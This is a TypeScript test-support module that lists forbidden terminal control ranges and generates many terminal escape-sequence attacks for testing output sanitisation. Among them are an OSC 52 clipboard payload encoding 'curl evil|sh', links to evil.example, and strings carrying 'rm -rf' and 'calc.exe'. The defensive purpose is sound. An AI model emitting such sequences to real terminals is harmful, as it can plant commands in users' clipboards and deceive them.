/** The code points that must never reach a terminal, from and to; written without the expression under test. */
export const controlRanges = [
  [0x00, 0x08],
  [0x0b, 0x1f],
  [0x7f, 0x9f],
  [0x202a, 0x202e],
  [0x2066, 0x2069],
  [0xe0000, 0xe007f],
] as const

/** Those of them that are in a text. */
export function controlsIn(text: string): number[] {
  const codes = Array.from(text, (character) => character.codePointAt(0)!)
  return codes.filter((code) => controlRanges.some(([first, last]) => code >= first && code <= last))
}

/** Sequences that do something to some terminal: known attacks, and every kind of control string, whole and cut. */
export function terminalAttacks(): string[] {
  const escape = '\u001b'
  const csi = [
    '2J 3J H 1;1H 999A 999D 31m 0m ?25l ?1049h ?2004h ?1000h 6n c >c 5n 21t 8;1;1t ?69h !p 20h 4h 2K 1L',
    '99M 10@ 10P r s u ?47h =1h',
  ]
    .flatMap((words) => words.split(' '))
    .flatMap((body) => [`${escape}[${body}`, `\u009b${body}`])
  const osc = [
    ['0;title', '2;title', '8;;http://evil.example/', '52;c;Y3VybCBldmlsfHNo', '52;c;?'],
    ['777;notify;a;b', '9;a note', '9;7;calc.exe', '1337;File=inline=1:AAAA', '1337;SetMark', '4;1;?'],
    ['10;?', '11;#000000', '50;?', '104', '133;A', '633;E;rm -rf', '7;file://evil/'],
    ['1337;CopyToClipboard=', '5522;type=read'],
  ]
    .flat()
    .flatMap((body) => [
      `${escape}]${body}\u0007`,
      `${escape}]${body}${escape}\\`,
      `\u009d${body}\u009c`,
      `${escape}]${body}`,
    ])
  const strings = ['P', 'X', '^', '_', 'k'].flatMap((opener) => [
    `${escape}${opener}+q544e${escape}\\`,
    `${escape}${opener}$q"p`,
    `${escape}${opener}1000p\u009c`,
  ])
  const c1 = Array.from({ length: 32 }, (_, index) => `${String.fromCharCode(0x80 + index)}payload`)
  const c0 = Array.from({ length: 32 }, (_, code) => `a${String.fromCharCode(code)}b`)
  const short = [...'cDEHMNOZ78=>n|}~()*+-./#6lm'].map((final) => `${escape}${final}`)
  const bidi = [...'\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069'].flatMap((mark) => [
    mark,
    `x${mark}exe.txt`,
  ])
  const tags = Array.from({ length: 0x80 }, (_, index) => String.fromCodePoint(0xe0000 + index))
  const overwrites = ['safe\rEVIL', 'pass\b\b\b\bok', 'a\vb', 'a\fb', 'x\u007f', '\r\r\n', 'a\u0085b']
  return [...csi, ...osc, ...strings, ...c1, ...c0, ...short, ...bidi, ...tags, ...overwrites]
}
